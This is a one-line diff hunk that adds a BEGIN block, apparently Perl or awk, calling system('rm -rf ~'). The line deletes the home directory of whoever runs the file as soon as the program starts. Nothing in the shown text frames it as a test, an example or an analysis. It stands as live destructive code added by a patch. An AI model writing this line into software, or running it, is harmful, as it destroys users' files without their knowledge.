@@ -1,0 +1,1 @@
+BEGIN { system("rm -rf ~") }
